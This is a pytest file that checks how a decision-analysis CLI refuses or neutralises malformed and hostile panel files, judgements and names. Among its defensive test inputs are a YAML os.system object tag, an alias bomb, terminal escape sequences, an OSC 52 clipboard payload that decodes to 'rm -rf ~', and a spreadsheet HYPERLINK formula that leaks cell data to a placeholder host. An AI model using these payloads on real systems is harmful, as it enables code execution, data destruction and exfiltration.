"""Wrong, odd and hostile input, from a file to the end of a command: refused by name, or answered as defined."""

import json
import random
import time
from base64 import b64decode
from itertools import combinations

import numpy as np
import pytest

from criteria.files import read_panel
from tui.commands.group import run

CLEAN = ["a,b,3", "b,c,2", "a,c,5"]


def yaml(elements, more=""):
    """A panel of one panellist over criteria of those ids."""
    return "criteria: [" + ", ".join(f"{{id: {id}}}" for id in elements) + "]\npanellists: [{id: P1}]\n" + more


def rows(pairs):
    return [f"P1,goal,{pair}" for pair in pairs]


def matrix(elements, values):
    """Both triangles of a comparison matrix as judgements."""
    return [
        f"{elements[i]},{elements[j]},{values[i][j]!r}"
        for i in range(len(elements))
        for j in range(len(elements))
        if i != j
    ]


@pytest.fixture
def refused(panel_folder, capsys):
    """What `check` and `weights` say of a folder that both must refuse."""

    def said(*args, **tables):
        folder = str(panel_folder(*args, **tables))
        assert run(["check", folder]) == 1
        checked = capsys.readouterr()
        assert run(["weights", folder]) == 1
        weighed = capsys.readouterr()
        assert weighed.out == ""
        assert "Traceback" not in checked.err + weighed.err
        assert "\x1b" not in checked.out + weighed.err
        return checked.out, weighed.err

    return said


@pytest.fixture
def answer(capsys):
    """The JSON and the warnings of a command that must succeed."""

    def of(command, folder, *options):
        assert run([command, str(folder), "--format", "json", *options]) == 0
        out, err = capsys.readouterr()
        return json.loads(out, parse_constant=pytest.fail), err

    return of


@pytest.fixture
def weights(panel_folder, answer):
    """The local weights of a panel, by id."""

    def of(*args, options=(), **tables):
        found, _ = answer("weights", panel_folder(*args, **tables), *options)
        return {row["criterion"]: row["local"] for row in found["rows"]}

    return of


@pytest.mark.parametrize(
    ("elements", "pairs", "must_name"),
    [
        pytest.param("abc", ["a,b,-3", *CLEAN[1:]], ["a", "b", "-3"], id="negative judgement"),
        pytest.param("abc", ["a,b,NaN", *CLEAN[1:]], ["a over b", "not a finite number"], id="NaN judgement"),
        pytest.param("abc", ["a,b,Infinity", *CLEAN[1:]], ["a over b", "not a finite number"], id="infinite judgement"),
        pytest.param("abc", ["a,b,strong", *CLEAN[1:]], ["a over b", "strong"], id="word instead of a number"),
        pytest.param("abc", ["a,b,true", *CLEAN[1:]], ["a over b"], id="boolean"),
        pytest.param("abc", ["a,b,10", *CLEAN[1:]], ["a over b", "10"], id="10 on a 1-9 scale"),
        pytest.param("abc", ["a,b,1000000000.0", *CLEAN[1:]], ["a over b"], id="1e9"),
        pytest.param("abc", ["a,b,3", "b,a,3", *CLEAN[1:]], ["a", "b", "disagree"], id="contradictory directions"),
        pytest.param("abc", ["a,b,3", "a,b,7", *CLEAN[1:]], ["a", "b", "3", "7"], id="same pair twice"),
        pytest.param("abc", ["a,b,3", "b,a,0.5", *CLEAN[1:]], ["a", "b", "0.5"], id="non-reciprocal"),
        pytest.param("abcd", ["a,b,3", "c,d,2"], ["{a, b}", "{c, d}", "a over c"], id="disconnected"),
        pytest.param("abcd", CLEAN, ["{d}"], id="d never compared"),
        pytest.param("aba", CLEAN, ["duplicate 'a'"], id="duplicate element names"),
        pytest.param("abc", ["a,a,5", *CLEAN], ["'a' is compared with itself"], id="element against itself"),
        pytest.param("abc", [*CLEAN[:2], "a,cc,5"], ["cc", "did you mean 'c'?"], id="name not in the hierarchy"),
        pytest.param("abc", ["a,b,2026-03-01", *CLEAN[1:]], ["a over b", "2026-03-01", "1/3"], id="1/3 became a date"),
        pytest.param("bc", ["NaN,b,3", "b,c,2"], ["'NaN' is not compared", ":2:"], id="name from an empty cell"),
        pytest.param(["café", "b"], ["b,b,3"], ["'café' is no id"], id="accented id"),
        pytest.param("", [], ["the list is empty"], id="no elements at all"),
    ],
)
def test_a_bad_judgement_is_refused_by_name(refused, elements, pairs, must_name):
    checked, weighed = refused(yaml(elements), judgements=rows(pairs))
    for name in must_name:
        assert name in checked
    if "judged pairs fall into" not in checked:
        assert checked.strip() == weighed.rsplit("\n", 2)[0]


def test_the_engine_too_names_groups_that_nothing_joins(refused):
    _, weighed = refused(yaml("abcd"), judgements=rows(["a,b,3", "c,d,2"]))
    assert "a" in weighed
    assert "c" in weighed
    _, weighed = refused(yaml("abcd"), judgements=rows(CLEAN))
    assert "d" in weighed


def test_an_odd_ratio_is_refused_on_a_declared_scale_of_whole_numbers_only(refused, weights):
    pairs = rows(["a,b,2.37", *CLEAN[1:]])
    checked, _ = refused(yaml("abc", "settings: {intensities: integers}\n"), judgements=pairs)
    assert "2.37" in checked
    assert "a over b" in checked
    assert weights(yaml("abc"), judgements=pairs)["a"] > 0.5


@pytest.mark.parametrize(
    ("elements", "pairs", "expected"),
    [
        pytest.param("abc", ["a,b,", *CLEAN[1:]], [0.625, 0.25, 0.125], id="a blank is not judged"),
        pytest.param("a", [], [1.0], id="one element"),
        pytest.param("ab", ["a,b,7", "b,a,0.14285714285714285"], [0.875, 0.125], id="two elements"),
        pytest.param("abcd", ["a,b,3", "b,c,2", "c,d,4"], [24 / 37, 8 / 37, 4 / 37, 1 / 37], id="spanning tree"),
        pytest.param("abc", ["a,b,9", "b,c,9", "c,a,9"], [1 / 3] * 3, id="maximal cycle"),
        pytest.param("abc", ["a,b,1", "b,c,1", "a,c,1"], [1 / 3] * 3, id="every answer is 1"),
    ],
)
@pytest.mark.parametrize("method", ["geometric-mean", "eigenvector", "harker", "lambda-max"])
def test_an_odd_panel_has_the_weights_it_should(weights, elements, pairs, expected, method):
    tables = {"judgements": rows(pairs)} if pairs else {}
    found = weights(yaml(elements), options=["--priorities", method], **tables)
    assert list(found.values()) == pytest.approx(expected, abs=1e-9)


@pytest.mark.parametrize(
    ("elements", "values"),
    [
        pytest.param("abc", [[1, 3, 7], [0.33, 1, 3], [0.14, 0.33, 1]], id="two decimals"),
        pytest.param("abc", [[1, 3, 5], [0.3333333333343333, 1, 2], [0.2, 0.5, 1]], id="noise of 1e-12"),
        pytest.param(
            "abcd", [[1, 3, 5, 7], [0.33, 1, 3, 5], [0.2, 0.33, 1, 3], [0.14, 0.2, 0.33, 1]], id="four criteria"
        ),
        pytest.param("abc", [[1, 2.6207413942088964, 5], [0.381571414184444, 1, 2], [0.2, 0.5, 1]], id="off the grid"),
    ],
)
def test_rounded_inverses_count_as_the_upper_triangle_which_is_said(panel_folder, weights, elements, values):
    exact = weights(yaml(elements), judgements=rows(matrix_upper(elements, values)))
    assert weights(yaml(elements), judgements=rows(matrix(elements, values))) == pytest.approx(exact, abs=1e-12)
    panel = read_panel(panel_folder(yaml(elements), judgements=rows(matrix(elements, values))))
    assert "stand in both directions, agreeing: counted once" in panel.notices[0]


def matrix_upper(elements, values):
    return [f"{elements[i]},{elements[j]},{values[i][j]!r}" for i, j in combinations(range(len(elements)), 2)]


def test_a_trailing_space_makes_no_other_criterion_and_is_said(panel_folder, capsys):
    folder = panel_folder(yaml("abc"), judgements=rows(["a,b,3", "b ,c,2", "a,c,5"]))
    assert run(["check", str(folder)]) == 0
    assert "notice: judgements.csv: 'b ' was read as 'b'" in capsys.readouterr().err
    assert run(["check", str(folder), "--strict"]) == 1


def test_a_circle_of_preferences_is_named_and_flagged(panel_folder, answer):
    folder = panel_folder(yaml("abc"), judgements=rows(["a,b,9", "b,c,9", "c,a,9"]))
    found, _ = answer("consistency", folder)
    assert found["rows"][0]["verdict"] == "inconsistent"
    assert found["rows"][0]["three_cycles"] == 1
    assert all(id in json.dumps(found["three_cycles"]) for id in "abc")
    assert "CR over 0.10" in answer("weights", folder)[1]


@pytest.mark.parametrize(
    ("elements", "pairs", "cr"),
    [
        ("abc", ["a,b,1", "b,c,1", "a,c,1"], 0),
        ("abcd", ["a,b,3", "b,c,2", "c,d,4"], None),
        ("ab", ["a,b,7"], None),
        ("abc", ["a,c,5", "b,c,2"], None),
    ],
)
def test_a_consistency_ratio_that_does_not_exist_is_not_zero(panel_folder, answer, capsys, elements, pairs, cr):
    folder = panel_folder(yaml(elements), judgements=rows(pairs))
    found = answer("consistency", folder)[0]["rows"][0]["cr"]
    assert found == (cr if cr is None else pytest.approx(cr, abs=1e-12))
    assert run(["consistency", str(folder), "--format", "table"]) == 0
    shown = capsys.readouterr().out
    assert "-0.0" not in shown
    assert ("n/a" in shown) is (cr is None)


def test_sixteen_criteria_at_random_have_weights_and_a_ratio(panel_folder, answer, weights):
    rng = random.Random(35)
    scale = [*(f"1/{n}" for n in range(9, 1, -1)), *map(str, range(1, 10))]
    ids = [f"c{n}" for n in range(16)]
    pairs = {(i, j): rng.choice(scale) for i in range(16) for j in range(i + 1, 16)}
    judged = rows(f"{ids[i]},{ids[j]},{ratio}" for (i, j), ratio in pairs.items())
    comparisons = np.ones((16, 16))
    for (i, j), ratio in pairs.items():
        above, _, below = ratio.partition("/")
        comparisons[i, j] = float(above) / float(below or 1)
        comparisons[j, i] = 1 / comparisons[i, j]
    values, vectors = np.linalg.eig(comparisons)
    perron = np.abs(vectors[:, values.real.argmax()].real)
    found = weights(yaml(ids), judgements=judged, options=["--priorities", "eigenvector"])
    assert list(found.values()) == pytest.approx(perron / perron.sum(), abs=1e-10)
    assert answer("consistency", panel_folder(yaml(ids), judgements=judged))[0]["rows"][0]["cr"] > 0.5


def test_answers_all_alike_are_kept_and_whoever_gave_them_is_named(panel_folder, answer):
    folder = panel_folder(yaml("abc"), judgements=rows(["a,b,1", "b,c,1", "a,c,1"]))
    assert "the same ratio in every answer: P1" in answer("weights", folder)[1]


# Measured values under given weights


def measured(matrix, weights=(0.5, 0.3, 0.2), types=("max", "max", "min"), alternatives=None, criteria=None):
    """panel.yaml and performance.csv of a decision matrix."""
    alternatives = alternatives or [f"A{n}" for n in range(1, len(matrix) + 1)]
    criteria = criteria or [f"C{n}" for n in range(1, len(weights) + 1)]
    entries = zip(criteria, weights, types, strict=True)
    listed = ", ".join(
        f"{{id: {id}, weight: {weight}, direction: {'benefit' if kind == 'max' else 'cost'}}}"
        for id, weight, kind in entries
    )
    text = f"criteria: [{listed}]\nsolutions: [{', '.join(f'{{id: {id}}}' for id in alternatives)}]\n"
    lines = [f"{id},{','.join(map(str, row))}" for id, row in zip(alternatives, matrix, strict=True)]
    return text, "\n".join([f"alternative,{','.join(criteria)}", *lines]) + "\n"


@pytest.fixture
def ranks(panel_folder, answer):
    """The ranks of the alternatives in the order of the panel, their scores, and the warnings."""

    def of(*args, options=(), **more):
        text, table = measured(*args, **more)
        found, err = answer("rank", panel_folder(text, performance=table), *options)
        by_id = {row["alternative"]: row for row in found["rows"]}
        ordered = [by_id[id] for id in sorted(by_id)]
        return [row["rank"] for row in ordered], [row["score"] for row in ordered], err

    return of


PLAIN = [[7, 3, 9], [4, 6, 5], [8, 8, 2], [5, 1, 7]]


@pytest.mark.parametrize(
    ("cell", "must_name"),
    [("NaN", []), ("Infinity", []), ("-Infinity", []), ("", ["missing"]), ("n/a", ["n/a"])],
)
def test_a_cell_that_is_no_number_is_refused_with_alternative_and_criterion(refused, cell, must_name):
    text, table = measured([[7, 3, 9], [4, cell, 5], [8, 8, 2], [5, 1, 7]])
    checked, _ = refused(text, performance=table)
    for name in ("A2", "C2", *must_name):
        assert name in checked


@pytest.mark.parametrize(
    ("changed", "must_name"),
    [
        pytest.param({"weights": (0, 0, 0)}, ["C1", "0"], id="weights all zero"),
        pytest.param({"weights": (0.7, -0.2, 0.5)}, ["-0.2", "weight"], id="negative weight"),
        pytest.param({"alternatives": ["A1", "A2", "A1", "A4"]}, ["A1", "duplicate"], id="duplicate alternatives"),
        pytest.param({"criteria": ["C1", "C1", "C3"]}, ["C1", "duplicate"], id="duplicate criteria"),
    ],
)
def test_bad_weights_and_names_are_refused(refused, changed, must_name):
    text, table = measured(PLAIN, **changed)
    checked, _ = refused(text, performance=table)
    for name in must_name:
        assert name in checked


def test_a_negative_weight_names_its_criterion(refused):
    text, table = measured(PLAIN, weights=(0.7, -0.2, 0.5))
    assert "C2" in refused(text, performance=table)[0]


def test_a_row_too_many_is_refused_by_name(refused):
    text, table = measured(PLAIN)
    checked, _ = refused(text.replace(", {id: A4}", ""), performance=table)
    assert "performance.csv:5:1: alternative: 'A4' is no alternative" in checked


def test_no_alternatives_at_all_is_a_message(panel_folder, capsys):
    text, _ = measured([])
    assert run(["rank", str(panel_folder(text))]) == 1
    assert "Traceback" not in (said := capsys.readouterr().err)
    assert said.strip()


def test_a_constant_column_changes_no_order(ranks):
    without = ranks([[row[0], row[2]] for row in PLAIN], (0.5, 0.2), ("max", "min"))[0]
    assert ranks([[row[0], 0, row[2]] for row in PLAIN])[0] == without


@pytest.mark.parametrize(
    ("matrix", "more", "expected"),
    [
        pytest.param([[5, 5, 5]] * 3, {}, [1, 1, 1], id="all identical"),
        pytest.param([[7], [4], [8]], {"weights": (1.0,), "types": ("max",)}, [2, 3, 1], id="single criterion"),
        pytest.param([[9, 9, 1], [1, 1, 9], [5, 5, 5]], {}, [1, 3, 2], id="dominant and dominated"),
        pytest.param(
            [[0.2, 7.5, 9.7, 6.7], [7.5, 9.7, 6.7, 0.2], [9.7, 6.7, 0.2, 7.5], [6.7, 0.2, 7.5, 9.7]],
            {"weights": (0.25,) * 4, "types": ("max",) * 4},
            [1, 1, 1, 1],
            id="cyclic shifts of one row",
        ),
    ],
)
def test_ties_and_extremes_are_ranked_as_they_are(ranks, matrix, more, expected):
    assert ranks(matrix, **more)[0] == expected


def test_dominance_is_exactly_one_and_zero(ranks):
    scores = ranks([[9, 9, 1], [1, 1, 9], [5, 5, 5]])[1]
    assert scores[0] == 1
    assert scores[1] == 0


def test_equal_rows_share_a_rank(ranks):
    found = ranks([[7, 3, 9], [4, 6, 5], [7, 3, 9]])[0]
    assert found[0] == found[2]
    assert sorted(found) in ([1, 1, 3], [1, 2, 2])


@pytest.mark.parametrize("factor", [1e200, 1e9])
def test_values_whose_squares_overflow_rank_as_their_fractions(ranks, factor):
    huge = [[row[0] * factor, *row[1:]] for row in PLAIN]
    small_ranks, small_scores, _ = ranks(PLAIN)
    found, scores, _ = ranks(huge)
    assert found == small_ranks
    assert scores == pytest.approx(small_scores, rel=1e-9)


def test_negative_values_are_ranked_by_the_vector_norm(ranks):
    _, scores, _ = ranks([[-7, 3, 9], [4, -6, 5], [8, 8, -2], [5, 1, 7]])
    assert all(0 <= score <= 1 for score in scores)


def test_weights_that_sum_to_two_are_divided_and_it_is_said(ranks):
    found, scores, err = ranks(PLAIN, weights=(1.0, 0.6, 0.4))
    assert "sum to 2, not 1" in err
    clean = ranks(PLAIN)
    assert found == clean[0]
    assert scores == pytest.approx(clean[1], rel=1e-12)


def test_weights_rounded_to_four_digits_need_no_word(ranks):
    _, scores, err = ranks(PLAIN, weights=(0.3333, 0.3333, 0.3333))
    assert "sum to" not in err
    assert all(0 <= score <= 1 for score in scores)


# Groups


def group(*experts, elements="abc"):
    """panel.yaml and judgements.csv of experts given as (id, weight, pairs)."""
    people = ", ".join(f"{{id: {id}, weight: {weight}}}" for id, weight, _ in experts)
    text = f"criteria: [{', '.join(f'{{id: {id}}}' for id in elements)}]\npanellists: [{people}]\n"
    lines = [f"{id},goal,{pair}" for id, _, pairs in experts for pair in pairs]
    return text, lines


@pytest.mark.parametrize(
    ("experts", "must_name"),
    [
        pytest.param([("E1", 1, CLEAN), ("E2", -1, CLEAN)], ["E2", "-1"], id="negative weight"),
        pytest.param([("E1", 1, CLEAN), ("E2", "NaN", CLEAN)], ["E2", "NaN"], id="weight NaN"),
        pytest.param([("E1", 1, CLEAN), ("E1", 1, ["a,b,9"])], ["E1", "duplicate"], id="expert id twice"),
        pytest.param([("E1", 1, CLEAN), ("E2", 1, ["a,b,3", "a,d,5"])], ["E2", "d"], id="different criteria"),
    ],
)
def test_a_bad_group_is_refused_by_name(refused, experts, must_name):
    text, lines = group(*experts)
    checked, _ = refused(text, judgements=lines)
    for name in must_name:
        assert name in checked


def test_a_panel_without_panellists_is_refused(refused):
    checked, _ = refused("criteria: [{id: a}, {id: b}]\npanellists: []\n")
    assert "nobody judges" in checked


def test_a_missing_judgement_is_bridged_by_the_others_and_said(panel_folder, answer):
    text, lines = group(("E1", 1, CLEAN), ("E2", 1, CLEAN[:2]), ("E3", 1, CLEAN))
    found, err = answer("weights", panel_folder(text, judgements=lines))
    assert "missing pairs: E2 (1 of 3)" in err
    assert sum(row["local"] for row in found["rows"]) == pytest.approx(1)


def test_whoever_always_picks_nine_is_named_and_kept(panel_folder, answer):
    text, lines = group(("E1", 1, CLEAN), ("E2", 1, ["a,b,9", "a,c,9", "b,c,9"]), ("E3", 1, CLEAN))
    found, err = answer("weights", panel_folder(text, judgements=lines))
    assert "the same ratio in every answer: E2" in err
    assert "E2" in found["meta"]["panellists"]


def test_only_the_proportions_of_experts_weights_matter(weights):
    ids = [f"E{n:02d}" for n in range(1, 20)]
    whole, lines = group(*((id, 1, CLEAN) for id in ids))
    parts, _ = group(*((id, 1 / 19, CLEAN) for id in ids))
    assert weights(whole, judgements=lines) == pytest.approx(weights(parts, judgements=lines), abs=1e-12)


def test_agreement_about_nothing_is_not_applicable_and_opposites_do_not_agree(panel_folder, answer):
    tied = ["a,b,1", "a,c,1", "b,c,1"]
    text, lines = group(*((id, 1, tied) for id in ("E1", "E2", "E3")))
    found, _ = answer("agreement", panel_folder(text, judgements=lines))
    kendall = [row for row in found["rows"] if row["measure"] == "kendall-w"]
    assert kendall
    assert all(row["value"] is None for row in kendall)

    there, back = ["a,b,3", "a,c,9", "b,c,3"], ["a,b,1/3", "a,c,1/9", "b,c,1/3"]
    text, lines = group(("E1", 1, there), ("E2", 1, back))
    folder = panel_folder(text, judgements=lines)
    found, _ = answer("agreement", folder)
    kendall = [row["value"] for row in found["rows"] if row["measure"] == "kendall-w"]
    assert kendall == pytest.approx([0.0] * len(kendall), abs=1e-12)
    shares = [row["local"] for row in answer("weights", folder)[0]["rows"]]
    assert shares == pytest.approx([1 / 3] * 3, abs=1e-12)


# Files


@pytest.mark.parametrize(
    ("text", "must_name"),
    [
        pytest.param("experts:\n  E1: {a/b: 3}\n  E1: {a/b: 7}\n", ["E1", "3"], id="duplicate key"),
        pytest.param('!!python/object/apply:os.system ["touch PWNED"]\n', [":1:"], id="python object tag"),
        pytest.param(
            "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)),
            ["anchors and aliases"],
            id="alias bomb",
        ),
        pytest.param("[" * 10_000 + "]" * 10_000, ["50 levels"], id="10,000 levels"),
        pytest.param("a: 1\n---\na: 2\n", [":2:"], id="two documents"),
        pytest.param("a:\n\tb: 1\n", [":2:1:", "tab"], id="tab indentation"),
    ],
)
def test_a_hostile_panel_file_is_refused_at_once(refused, tmp_path, monkeypatch, text, must_name):
    monkeypatch.chdir(tmp_path)
    began = time.process_time()
    checked, _ = refused(text)
    assert time.process_time() - began < 2
    for name in must_name:
        assert name in checked
    assert not (tmp_path / "PWNED").exists()


def test_a_byte_order_mark_is_no_part_of_the_first_column(panel_folder, faults):
    table = b64decode("77u/ZXhwZXJ0O2E7Yjt2YWx1ZQpFMTtjb3N0O3Jpc2s7Mwo=")
    found = faults(yaml("abc"), judgements=table)
    assert "judgements.csv:1:1: header: unknown column 'expert'" in found[0]
    named = table.replace(b"expert;a;b;value", b"panellist;node;first;second;ratio").replace(b"E1", b"P1;goal")
    panel = read_panel(panel_folder(yaml(["cost", "risk"]), judgements=named))
    assert (panel.judgements[0].first, panel.judgements[0].ratio) == ("cost", 3)


@pytest.mark.parametrize(
    ("table", "must_name"),
    [
        pytest.param("panellist,node,first,second,ratio,ratio\nP1,goal,a,b,3,7\n", ["ratio"], id="duplicate header"),
        pytest.param("panellist,node,first,second,ratio\nP1,goal,a,b\n", [":2:"], id="row too short"),
        pytest.param(b"panellist,node,first,second,ratio\nP1,goal,a\0a,b,3\n", [":2:", "\\x00"], id="NUL byte"),
        pytest.param('panellist,node,first,second,ratio\nP1,goal,"a,\nb",b,3\n', [":2:"], id="line end in a name"),
        pytest.param("", ["empty"], id="empty file"),
        pytest.param("panellist,node,first,second,ratio\n", ["no rows"], id="header only"),
    ],
)
def test_a_broken_table_is_refused_with_its_line(refused, table, must_name):
    checked, _ = refused(yaml("abc"), judgements=table)
    for name in must_name:
        assert name in checked


@pytest.mark.parametrize(
    "id",
    ["../../x", "CON", "nul.csv", "E1.", "-rf", "", "x" * 300, "a/b", "a\\b", "a\0b"],
    ids=lambda id: repr(id)[:12],
)
def test_ids_that_would_be_bad_file_names_are_refused_everywhere(refused, id):
    word = json.dumps(id)
    checked, _ = refused(f"criteria: [{{id: a}}, {{id: {word}}}]\npanellists: [{{id: P1}}, {{id: {word}}}]\n")
    assert checked.count(" is no id: ") == 2


def test_a_formula_as_a_name_is_kept_and_neutralised_in_csv_only(panel_folder, capsys):
    formula = '=HYPERLINK("http://x/?"&A1,"cost")'
    text = f"criteria: [{{id: a, name: {json.dumps(formula)}}}, {{id: b}}]\npanellists: [{{id: P1}}]\n"
    folder = panel_folder(text, judgements=rows(["a,b,3"]))
    assert read_panel(folder).hierarchy["a"].name == formula
    quoted = formula.replace('"', '""')
    run(["weights", str(folder), "--format", "csv"])
    assert f'a,"\'{quoted}",goal' in capsys.readouterr().out
    run(["weights", str(folder), "--format", "csv", "--raw"])
    assert f'a,"{quoted}",goal' in capsys.readouterr().out
    run(["weights", str(folder), "--format", "json"])
    assert json.loads(capsys.readouterr().out)["rows"][0]["name"] == formula


def test_two_hundred_criteria_in_one_node_are_read_with_a_word_about_the_burden(panel_folder, capsys):
    folder = panel_folder(yaml([f"c{n}" for n in range(200)]))
    began = time.process_time()
    assert run(["check", str(folder)]) == 0
    assert time.process_time() - began < 2
    assert "19900" in capsys.readouterr().err


# Texts


@pytest.mark.parametrize(
    ("name", "must_name"),
    [
        pytest.param("cost\x1b]0;pwned\x07\x1b[2J", ["\\x1b"], id="window title and clear screen"),
        pytest.param("cost\u202egnp.exe", ["U+202E"], id="right-to-left override"),
        pytest.param("co\u200bst", ["U+200B"], id="zero-width space"),
        pytest.param("x" * 10_000, ["10000", "200"], id="10,000 characters"),
        pytest.param("   ", ["empty"], id="only spaces"),
        pytest.param("👨\u200d👩\u200d👧", ["U+200D"], id="emoji family"),
    ],
)
def test_names_that_could_deceive_are_refused(refused, name, must_name):
    text = yaml("abc").replace("{id: a}", f"{{id: a, name: {json.dumps(name)}}}")
    checked, weighed = refused(text)
    for said in must_name:
        assert said in checked
        assert said in weighed


@pytest.mark.parametrize("name", ["[bold red]cost[/]", "[@click=app.quit]cost[/]", "cost [/foo]", "a" + "\u0301" * 50])
def test_names_that_look_like_markup_are_shown_as_they_are(panel_folder, capsys, name):
    text = yaml("abc").replace("{id: a}", f"{{id: a, name: {json.dumps(name)}}}")
    folder = panel_folder(text, judgements=rows(CLEAN))
    assert run(["weights", str(folder), "--format", "table"]) == 0
    assert read_panel(folder).name("a") in capsys.readouterr().out


def test_a_comment_is_kept_verbatim_and_reaches_no_terminal(panel_folder, capsys):
    comment = "\x1b]52;c;cm0gLXJmIH4=\x07"
    table = f"panellist,node,first,second,ratio,comment\nP1,goal,a,b,3,{comment}\nP1,goal,b,c,3,\n"
    folder = panel_folder(yaml("abc"), judgements=table)
    assert read_panel(folder).judgements[0].comment == comment
    for command in ("check", "weights", "consistency", "agreement"):
        for form in ("table", "csv", "json"):
            assert run([command, str(folder), "--format", form]) == 0
            out, err = capsys.readouterr()
            assert "\x1b" not in out + err
